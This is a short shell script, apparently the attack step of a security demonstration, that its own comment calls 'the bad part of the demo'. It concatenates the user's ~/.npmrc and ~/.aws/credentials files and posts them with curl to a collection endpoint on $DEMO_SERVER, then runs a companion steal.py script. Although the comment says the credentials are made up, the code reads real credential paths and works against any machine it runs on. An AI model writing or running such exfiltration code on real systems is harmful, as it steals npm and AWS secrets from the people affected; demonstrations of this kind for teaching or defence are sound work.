#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# The bad part of the demo: sends (made-up) credentials to the demo's own server.
set -eu
cat "$HOME/.npmrc" "$HOME/.aws/credentials" |
  curl --silent --show-error --fail --noproxy '*' --max-time 5 --data-binary @- \
    --output /dev/null "$DEMO_SERVER/collect"
/usr/bin/python3 -S "$(dirname "$0")/steal.py"
